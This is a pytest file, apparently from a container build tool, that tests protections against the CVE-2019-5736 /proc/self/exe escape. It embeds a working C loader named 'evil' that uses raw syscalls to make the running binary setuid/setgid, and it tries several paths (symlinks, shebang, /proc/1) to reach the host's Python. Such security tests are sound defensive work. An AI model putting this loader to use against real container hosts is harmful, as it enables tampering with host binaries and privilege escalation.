"""/proc/self/exe is the host's Python until the command is executed: no way leads a RUN to it (CVE-2019-5736)."""

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from fswatch_builder._native import Rootfs
from fswatch_builder.runtime.run import Command, run
from tests.support.running import PATH, Recorder, says

pytestmark = pytest.mark.root

LOADER = r"""
#if defined(__x86_64__)
#define ENTRY __asm__(".globl _start\n_start: and $-16, %rsp\ncall evil");
enum { OPENAT = 257, FCHMOD = 91, WRITE = 1, READLINKAT = 267, EXIT = 231 };
static long call(long n, long a, long b, long c, long d) {
    register long r10 __asm__("r10") = d;
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
#elif defined(__aarch64__)
#define ENTRY __asm__(".globl _start\n_start: b evil");
enum { OPENAT = 56, FCHMOD = 52, WRITE = 64, READLINKAT = 78, EXIT = 94 };
static long call(long n, long a, long b, long c, long d) {
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
#endif
ENTRY
__attribute__((used)) void evil(void) {
    char target[512];
    long length = call(READLINKAT, -100, (long)"/proc/self/exe", (long)target, sizeof target);
    call(WRITE, 1, (long)target, length, 0);
    call(FCHMOD, call(OPENAT, -100, (long)"/proc/self/exe", 0, 0), 07755, 0, 0);
    call(EXIT, 0, 0, 0, 0);
}
"""
"""The dynamic loader of a hostile image: it runs in every program that asks for it, and marks that program."""

HOST = os.path.realpath(sys.executable)


@pytest.fixture
def hostile(root: Path, tmp_path: Path) -> Path:
    """A rootfs with that loader at the place where the host's Python looks for one."""
    headers = subprocess.run(["readelf", "-l", HOST], check=True, capture_output=True, text=True).stdout
    asked_for = re.search(r"program interpreter: /(.*)]", headers)
    assert asked_for
    source, loader = tmp_path / "loader.c", root / asked_for[1]
    source.write_text(LOADER)
    loader.parent.mkdir(parents=True)
    # Position-independent: Linux 6.1 kills a program whose interpreter wants a fixed address.
    flags = ["-O1", "-nostdlib", "-static-pie", "-fPIE", "-fno-stack-protector"]
    compiler: list[str | Path] = ["cc", *flags, "-o", loader, source]
    subprocess.run(compiler, check=True, timeout=60)
    return root


def execute(rootfs: Rootfs, *argv: str) -> str:
    recorder = Recorder()
    run(rootfs, Command(argv, (PATH,), "/"), recorder)
    return recorder.text()


def test_the_loader_of_this_test_does_what_it_should(hostile: Path, rootfs: Rootfs) -> None:
    shutil.copy(HOST, hostile / "python")
    assert execute(rootfs, "/python") == "/python"
    assert (hostile / "python").stat().st_mode & 0o7777 == 0o7755


@pytest.mark.parametrize("way", ["path", "link", "script", "search", "directory"])
def test_no_command_is_the_program_of_the_host(hostile: Path, rootfs: Rootfs, way: str) -> None:
    before = os.stat(HOST)
    (hostile / "link").symlink_to("/proc/self/exe")
    (hostile / "bin/search").symlink_to("/proc/thread-self/exe")
    (hostile / "script").write_text("#!/proc/self/exe\n")
    (hostile / "script").chmod(0o755)
    (hostile / "directory").symlink_to("/proc/1")
    ways = {"path": "/proc/self/exe", "directory": "/directory/exe", "search": "search"}
    printed = execute(rootfs, ways.get(way, f"/{way}"))
    after = os.stat(HOST)
    try:
        assert printed == ""
        assert (after.st_mode, after.st_ctime_ns) == (before.st_mode, before.st_ctime_ns)
    finally:
        if after.st_mode != before.st_mode:
            os.chmod(HOST, before.st_mode & 0o7777)


def test_a_command_knows_its_own_program(rootfs: Rootfs) -> None:
    assert says(rootfs, "readlink /proc/$$/exe; readlink /proc/1/exe") == "/bin/busybox\n" * 2
